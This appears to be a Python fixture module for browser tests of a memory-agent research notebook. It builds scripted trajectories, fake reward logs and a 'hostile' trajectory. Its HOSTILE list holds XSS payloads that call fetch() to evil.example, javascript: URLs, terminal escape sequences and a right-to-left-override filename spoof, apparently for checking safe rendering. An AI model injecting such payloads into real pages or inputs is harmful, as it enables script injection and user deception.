"""What the browser tests look at: real episodes of scripted policies, a large trajectory, and hostile text. No model, no torch.

Copied into the notebook server's directory, where the notebooks import it.
"""

from __future__ import annotations

import math
import random
import re
from dataclasses import replace
from functools import partial

from memlab.episode import Ask, Outcome, Row, Trajectory, Turn
from memlab.memory import Event, sentences
from memlab.papers import memagent
from memlab.policies.scripted import ScriptedPolicy
from memlab.rollout import play
from memlab.worlds import Task

HOSTILE = [
    "<script>window.HACKED = 1; fetch('https://evil.example/a')</script>",
    "<img src=x onerror=\"window.HACKED = 2; fetch('https://evil.example/b')\">",
    '"><svg onload="window.HACKED = 3"></svg>',
    "</textarea></script><iframe src=javascript:window.top.HACKED=4>",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "user\u202egnp.exe\u202c \u2066isolate\u2069 \u200f",
    "[link](javascript:window.HACKED=5) **bold** $x$ `code`",
    "long " + "x" * 1_000_000,
]


GOLD = ("mira adopted rex .", "rex lives in oslo .")
TASK = Task(
    question="where does the pet of mira live ?",
    answers=("oslo",),
    sections=(
        "hugo adopted coco . sonia adopted misty . ada adopted toby .",
        f"simon adopted patch . {GOLD[0]} lucky lives in lima .",
        "tom adopted rex .",
        "felix adopted ruby . hazel lives in milan . max lives in rome .",
        f"ruth adopted bella . {GOLD[1]}",
        "ivan adopted socks . misty lives in cairo . anna adopted daisy .",
        "karl adopted ruby .",
        "ziggy lives in tokyo . boris adopted buddy . tiger lives in paris .",
    ),
    gold=GOLD,
    gold_sections=(1, 4),
)


# room for a memory that muddles
episode = partial(memagent.episode, style=replace(memagent.TINY, memory_words=22, update_tokens=23))


class Words:
    """A tokenizer for which every word is one token: what `play` needs, and no more."""

    pad_token_id, eos_token_id = 0, 1

    def __init__(self):
        self.words = ["<pad>", "<end>"]

    def encode(self, text, add_special_tokens=False):
        for word in text.split():
            if word not in self.words:
                self.words.append(word)
        return [self.words.index(word) for word in text.split()]

    def decode(self, ids, skip_special_tokens=False):
        return " ".join(self.words[i] for i in ids if i > 1 or not skip_special_tokens)


class Certain(ScriptedPolicy):
    """A scripted policy that claims log-probabilities, as a model has them."""

    def complete(self, prompts):
        done = super().complete(prompts)
        for completion in done:
            completion.logprobs = [math.log(self.rng.choice((0.2, 0.55, 0.8, 0.97, 0.999))) for _ in completion.ids]
        return done


def newest(ask, rng):
    """Keep the three newest facts, and muddle the oldest of them: what a policy does that does not know what it is for."""
    if "section" not in ask.state:
        return "lima"
    first, *rest = (sentences(ask.state["memory"]) + sentences(ask.state["section"]))[-3:]
    return " ".join([re.sub(r"(adopted|in) (?!old)", r"\1 old ", first), *rest])


def before_and_after():
    """(task, a forgetful trajectory, an oracle's, tokenizer) on one two-hop document of eight sections."""
    task = TASK
    words = Words()
    [before] = play([episode(task)], Certain(newest, words), [task])
    [after] = play([episode(task)], Certain(memagent.oracle, words), [task])
    return task, before, after, words


def group():
    """Four rollouts of one task, two of them right."""
    words = Words()
    rules = (newest, memagent.oracle, newest, memagent.oracle)
    return [play([episode(TASK)], Certain(rule, words, seed=i), [TASK])[0] for i, rule in enumerate(rules)]


def log(steps: int, seed: int = 0) -> list[dict]:
    """Records as a training run writes them."""
    rng, records = random.Random(seed), []
    for step in range(1, steps + 1):
        reward = 0.25 + 0.7 / (1 + math.exp(-(step - 80) / 15)) + rng.gauss(0, 0.06)
        health = {"zero_spread_share": abs(step - 80) / 150, "entropy": 1.2 - step / 250, "clipped_share": 0.02}
        records.append({"step": step, "reward": min(1.0, max(0.0, reward)), "seconds": 0.2} | health)
    return records


def band(steps: int = 200):
    """(steps, low, high) over five recorded runs."""
    runs = [[r["reward"] for r in log(steps, seed)] for seed in range(1, 6)]
    return list(range(1, steps + 1)), [min(x) for x in zip(*runs)], [max(x) for x in zip(*runs)]


def large(steps: int = 256, facts: int = 500) -> Trajectory:
    """`steps` steps and `facts` facts, half of them in memory to the end; rewrites and deletions all along."""
    rng = random.Random(0)
    events, held = [], {}
    gold = "rex lives in oslo ."
    for step in range(steps):
        for item in list(held):
            if rng.random() < 0.004 and item:
                events.append(Event(step, "delete", item, held.pop(item)))
            elif rng.random() < 0.01:
                text = f"fact {item} was changed at step {step} ."
                events.append(Event(step, "rewrite", item, text, held[item]))
                held[item] = text
        for item in range(facts * step // steps, facts * (step + 1) // steps):
            held[item] = gold if item == 0 else f"fact {item} is written at step {step} and says something ."
            events.append(Event(step, "write", item, held[item]))
    context = "question : where does rex live ? step {} . " + "some words that the policy reads . " * 40
    turns = [Turn(Ask(context.format(i), 24), f"text {i}", 300, 24) for i in range(steps)]
    task = Task("where does rex live ?", ("oslo",), (), (gold,), (0,))
    return Trajectory(task, turns, [], Outcome(1.0, "oslo", {}, tuple(events)))


def hostile() -> Trajectory:
    """Hostile text everywhere a model or a data set can put text, at one step each."""
    turns, events, rows = [], [], []
    for i, text in enumerate(HOSTILE):
        prompt = text if i % 2 else [{"role": text, "content": text}]
        turns.append(Turn(Ask(prompt, 8), text, 10, 1, truncated=True))
        events += [Event(i, "write", 2 * i, text)]
        if i:
            events += [
                Event(i, "rewrite", 2 * i - 2, text + " now", HOSTILE[i - 1]),
                Event(i, "delete", 2 * i - 3, text),
            ]
        events += [Event(i, text[:60], 2 * i + 1, text)]
        rows.append(Row([1], [i], [1], [-0.5]))
    task = Task(HOSTILE[1], (HOSTILE[0],), (), (HOSTILE[0], HOSTILE[5]), (0, 5))
    return Trajectory(task, turns, rows, Outcome(0.0, HOSTILE[1], {HOSTILE[0]: 1.0}, tuple(events)))


class HostileTokens:
    def decode(self, ids):
        return HOSTILE[ids[0]]
